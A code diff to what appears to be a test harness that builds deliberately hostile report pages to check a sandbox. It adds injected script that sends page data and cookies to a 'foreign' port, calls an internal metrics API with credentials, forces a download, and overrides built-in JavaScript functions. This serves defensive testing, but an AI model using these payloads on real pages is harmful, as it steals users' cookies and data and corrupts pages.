@@ -43,6 +43,8 @@ export function foreignHandler(ctx: AppContext) {
       ctx.stats.count('_foreign', 'report-page');
       return redirect(res, `/login?next=${encodeURIComponent(req.url ?? '/')}`);
     }
+    // Anything else a page sends here (what a box must stop) is counted.
+    ctx.stats.count('_foreign', 'other');
     html(res, 404, '<!doctype html><meta charset="utf-8"><title>404</title><p>页面不存在</p>');
   };
 }
@@ -85,6 +87,34 @@ export function hostilePageOptions(project: DemoProject): ReportPageOptions {
       noData: true,
       before: `for (var i = 0; i < ${h.count}; i++) setTimeout(function (n) { throw new Error('boom ' + n); }, 0, i);`,
     };
+  if (h?.kind === 'page-exfil')
+    return {
+      after: [
+        `var foreign = location.protocol + '//' + location.hostname + ':' + (Number(location.port) + 2);`,
+        `var d = typeof DATA !== 'undefined' ? DATA : window.DATA;`,
+        `fetch(foreign + '/exfil?d=' + encodeURIComponent(JSON.stringify(d).slice(0, 200)) + '&c=' + encodeURIComponent(document.cookie), { mode: 'no-cors' }).catch(function () {});`,
+        `new Image().src = foreign + '/pixel.gif?c=' + encodeURIComponent(document.cookie);`,
+        `fetch(location.protocol + '//' + location.hostname + ':' + (Number(location.port) + 1) + '/api/geo-monitor/metrics/l1', { credentials: 'include' }).catch(function () {});`,
+        `addEventListener('load', function () { var a = document.createElement('a'); a.href = 'data:application/octet-stream;base64,' + btoa('x'.repeat(1024)); a.download = 'big.bin'; document.body.appendChild(a); a.click(); });`,
+      ].join('\n'),
+    };
+  if (h?.kind === 'page-tampers')
+    return {
+      before: [
+        `JSON.stringify = function () { return '{}'; };`,
+        `Object.keys = function () { return []; };`,
+        `Array.prototype.sort = function () { return this.reverse(); };`,
+        `Number.prototype.toFixed = function () { return '0'; };`,
+        `Object.defineProperty(Object.prototype, 'toJSON', { value: function () { return 'tampered'; }, configurable: true });`,
+      ].join('\n'),
+    };
+  if (h?.kind === 'data-grows') {
+    // About 3 UTF-8 bytes per character: a third of `mb` million characters, built on each read.
+    const rows = Math.ceil((h.mb * 1_000_000) / 3 / 40);
+    return {
+      after: `Object.defineProperty(typeof DATA !== 'undefined' ? DATA : window.DATA, 'padding', { enumerable: true, get: function () { var a = []; for (var i = 0; i < ${rows}; i++) a.push('填充填充填充填充填充填充填充填充填充填充填充填充填充填充填充填充' + i); return a; } });`,
+    };
+  }
   if (h?.kind === 'page-script-navigation') {
     const target = projectById(h.to);
     if (!target) throw new Error(`demo: hostile navigation to unknown project ${h.to}`);
